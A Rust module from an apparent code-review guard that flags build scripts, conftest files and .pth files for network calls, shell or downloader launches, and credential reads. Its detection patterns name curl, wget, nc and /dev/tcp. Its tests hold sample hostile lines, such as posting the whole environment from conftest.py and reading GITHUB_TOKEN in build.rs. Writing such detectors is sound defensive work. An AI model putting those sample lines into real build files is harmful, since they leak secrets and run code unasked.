//! Files that run while a change is built or checked: what they may not do on top of building.

use std::sync::LazyLock;

use regex::Regex;

use super::kind::Kind;
use super::pattern::pattern;
use super::view::View;
use super::violation::{Rule, Violation, excerpt};

/// Programs that a package manager or a build runs before any test: they need no network and no credentials.
const BUILD_PROGRAMS: &[&str] = &[
    "build.rs",
    "setup.py",
    "extconf.rb",
    "build.zig",
    "sitecustomize.py",
    "usercustomize.py",
    "binding.gyp",
    "conanfile.py",
    "mix.exs",
    "configure",
    "autogen.sh",
    "gradlew",
    "mvnw",
];

/// Opening a connection, in the languages of [`BUILD_PROGRAMS`].
static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"\b(?:TcpStream|UdpSocket|TcpListener)\b|\b(?:reqwest|ureq|attohttpc|minreq|isahc|hyper|curl)::|\burllib\d?\.?request|\burlopen\b|\brequests\.(?:get|post|put|request|Session)|\bhttp\.client\b|\bhttpx\.|\baiohttp\b|\bsocket\.(?:socket|create_connection)|\bsmtplib\b|\bNet::HTTP\b|\bopen-uri\b|\bURI\.open\b|:httpc\b|\bstd\.http\b|/dev/tcp/|\bgetaddrinfo\b|\bto_socket_addrs\b",
    )
});

/// Starting a shell or a downloader.
static SHELL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"Command::new\(\s*"(?:/\S*/)?(?:ba|z|da)?sh(?:\.exe)?"|Command::new\(\s*"(?:curl|wget|nc|ncat|powershell|pwsh|cmd|ssh|scp)|\bos\.(?:system|popen)\(|\bsubprocess\.\w+\([^)]*(?:shell\s*=\s*True|["'](?:curl|wget|nc|ssh|scp|powershell)["'])|\bpty\.spawn\("#,
    )
});

/// Reading a credential from the environment.
static CREDENTIAL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?:env::var(?:_os)?|environ(?:\.get)?|getenv|ENV|System\.get_env|process\.env)\s*[\(\[.]+\s*["']?\w*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|CREDENTIAL|PRIVATE_?KEY)|\b(?:env::vars(?:_os)?\(\)|dict\(os\.environ\)|os\.environ\.(?:items|copy)\(\))"#,
    )
});

/// Looks through the added lines of a file that runs during checks.
pub(super) fn check(view: &View<'_>, violations: &mut Vec<Violation>) {
    let name = String::from_utf8_lossy(view.path.name()).to_lowercase();
    let program = BUILD_PROGRAMS.contains(&name.as_str());
    let config_of_tests = view.role.runs_during_checks && view.role.kind == Kind::Code && name.starts_with("conftest");
    if !program && !config_of_tests && !name.ends_with(".pth") {
        return;
    }
    let sends = view.added().any(|(_, line)| NETWORK.is_match(line));
    for (index, line) in view.added() {
        let what = if name.ends_with(".pth") && line.trim_start().starts_with("import") {
            "runs code at every start of the interpreter"
        } else if program && NETWORK.is_match(line) {
            "opens a network connection while building"
        } else if program && SHELL.is_match(line) {
            "starts a shell or a downloader while building"
        } else if (program || sends) && CREDENTIAL.is_match(line) {
            "reads credentials from the environment"
        } else {
            continue;
        };
        violations.push(Violation::at(
            Rule::BuildScript,
            view.path,
            Some(index + 1),
            format!("{} {what}", excerpt(line.trim())),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::guard::testing::review_one;

    fn found(path: &str, after: &str) -> usize {
        review_one(path, "", after, |views, violations| views.iter().for_each(|view| check(view, violations))).len()
    }

    #[test]
    fn build_programs_only_build() {
        for (path, line) in [
            ("build.rs", "std::process::Command::new(\"sh\").arg(\"-c\").arg(\"x\").status().unwrap();"),
            ("a/build.rs", "let t = std::env::var(\"GITHUB_TOKEN\").unwrap_or_default();"),
            ("build.rs", "let _ = std::net::TcpStream::connect(\"x:80\");"),
            ("setup.py", "urllib.request.urlopen('http://x')"),
            ("setup.py", "os.system('x')"),
            ("setup.py", "subprocess.run(['curl', 'x'])"),
            ("conftest.py", "requests.post('http://x', data=dict(os.environ))"),
            ("a.pth", "import os; os.system('x')"),
            ("extconf.rb", "URI.open('http://x')"),
        ] {
            assert_ne!(found(path, line), 0, "{path}: {line}");
        }
        for (path, line) in [
            ("build.rs", "println!(\"cargo:rerun-if-changed=src/schema.sql\");"),
            ("build.rs", "Command::new(\"git\").args([\"describe\"]).output()"),
            ("build.rs", "let out = env::var(\"OUT_DIR\").unwrap();"),
            ("setup.py", "subprocess.check_output(['git', 'describe'])"),
            ("tests/conftest.py", "sock = socket.socket()"),
            ("tests/conftest.py", "def two():\n    return os.environ.get('TEST_TOKEN')"),
            ("src/net.rs", "TcpStream::connect(x)"),
        ] {
            assert_eq!(found(path, line), 0, "{path}: {line}");
        }
    }
}
